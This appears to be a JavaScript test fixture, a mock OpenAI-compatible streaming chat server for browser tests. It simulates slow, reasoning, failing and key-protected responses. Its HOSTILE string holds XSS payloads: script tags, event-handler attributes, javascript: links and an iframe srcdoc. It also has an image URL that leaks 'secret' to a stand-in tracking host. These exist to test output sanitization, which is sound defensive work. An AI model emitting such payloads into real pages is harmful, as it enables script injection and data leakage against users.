// A model's server as others run it (OpenAI's wire), for the browser tests: it answers slowly, thinks aloud, dies, or writes hostile
// text, as the question says. It counts the calls whose caller hung up.
import { createServer } from "node:http";

const HOSTILE = [
  "<script>window.hacked = 1</script> <img src=x onerror=\"window.hacked = 2\"> [lien](javascript:window.hacked=3)",
  "![suivi](https://suivi.example/p.png?q=secret) <svg onload=\"window.hacked = 4\"></svg> <iframe srcdoc=\"<script>parent.hacked=5</script>\"></iframe>",
  "$\\href{javascript:window.hacked=6}{x}$ et $\\class{x}{y}$",
  "```html\n<script>window.hacked = 7</script>\n```",
  "| <b onclick=\"window.hacked=8\">a</b> | b |\n| --- | --- |\n| <style>*{display:none}</style> | c |",
].join("\n\n");

const RICH = [
  "## En bref",
  "Deux jours **par semaine** [1].",
  "| Situation | Jours |\n| :-- | --: |\n| Temps plein | 2 |",
  "$$\nN = \\sum_{s=1}^{47} j_s\n$$",
  "```python\ndef jours(semaines: int) -> int:\n    return 2 * semaines\n```",
].join("\n\n");

const pause = (time) => new Promise((done) => setTimeout(done, time));

/** What is answered to a question, and how. */
function plan(question) {
  if (/hostile/i.test(question)) return { text: HOSTILE, every: 5 };
  if (/meurt/i.test(question)) return { text: "Voici le début de la réponse, et puis plus rien", every: 20, dies: true };
  if (/lentement/i.test(question)) return { text: "Un mot après l’autre, sans se presser. ".repeat(40), every: 120 };
  if (/très long/i.test(question)) return { text: "Une phrase de plus dans une **très longue** réponse [1].\n\n".repeat(7_000), every: 0, size: 400 };
  if (/médite/i.test(question)) return { text: "", every: 10, reasoning: "Je cherche d’abord la charte, et je n’en reviens pas" };
  if (/raisonne/i.test(question)) return { text: RICH, every: 10, reasoning: "Je cherche d’abord la charte, puis le nombre de jours." };
  return { text: RICH, every: 4 };
}

/** Below `/keyed` the server wants a key and tells which models it has; elsewhere it takes everybody. */
const KEY = "sk-essai";
const MODELS = ["petit", "grand"];

function refused(request, asked) {
  if (request.headers.authorization !== `Bearer ${KEY}`) return [401, { error: { message: "invalid key" } }];
  if (request.method === "GET") return [200, { data: MODELS.map((id) => ({ id })) }];
  if (!MODELS.includes(asked.model)) return [404, { error: { message: "no such model" } }];
  return null;
}

/** Starts the server; gives its address and what it saw. */
export async function startModel() {
  const seen = { calls: 0, hungUp: 0, loading: 0 };
  const server = createServer(async (request, response) => {
    let body = "";
    for await (const piece of request) body += piece;
    const asked = JSON.parse(body || "{}");
    if (request.url.startsWith("/keyed/")) {
      const [status, told] = refused(request, asked) ?? [];
      if (status) return response.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(told));
    } else if (request.method === "GET") {
      return response.writeHead(200, { "content-type": "application/json" }).end('{"object":"list","data":[{"id":"essai","object":"model"}]}');
    }
    const question = [...(asked.messages ?? [])].reverse().find((one) => one.role === "user")?.content ?? "";
    const { text, every, dies, reasoning, size = 12 } = plan(typeof question === "string" ? question : JSON.stringify(question));
    seen.calls += 1;
    if (/panne/i.test(question)) return response.writeHead(503, { "content-type": "application/json" }).end('{"error":{"message":"overloaded"}}');
    // llama.cpp, while it loads its model.
    if (/charge/i.test(question) && seen.loading < 2) {
      seen.loading += 1;
      return response.writeHead(503, { "content-type": "application/json" }).end('{"error":{"code":503,"message":"Loading model","type":"unavailable_error"}}');
    }
    let open = true;
    response.on("close", () => {
      if (!response.writableEnded) seen.hungUp += 1;
      open = false;
    });
    response.writeHead(200, { "content-type": "text/event-stream" });
    const send = (delta, finish = null) =>
      response.write(`data: ${JSON.stringify({ id: "c", object: "chat.completion.chunk", created: 1, model: "essai", choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`);
    send({ role: "assistant", content: "" });
    if (reasoning) {
      send({ reasoning_content: reasoning });
      await pause(120);
    }
    for (let at = 0; at < text.length && open; at += size) {
      send({ content: text.slice(at, at + size) });
      if (dies && at > 20) return response.destroy();
      if (every > 0) await pause(every);
      else if (at % 40_000 === 0) await pause(1);
    }
    if (!open) return undefined;
    send({}, "stop");
    if (asked.stream_options?.include_usage) response.write(`data: ${JSON.stringify({ id: "c", choices: [], usage: { prompt_tokens: 120, completion_tokens: Math.ceil(text.length / 4) } })}\n\n`);
    response.end("data: [DONE]\n\n");
    return undefined;
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  const base = `http://127.0.0.1:${server.address().port}`;
  return { url: `${base}/v1`, keyed: { url: `${base}/keyed/v1`, key: KEY, models: MODELS }, seen, stop: () => (server.closeAllConnections(), server.close()) };
}
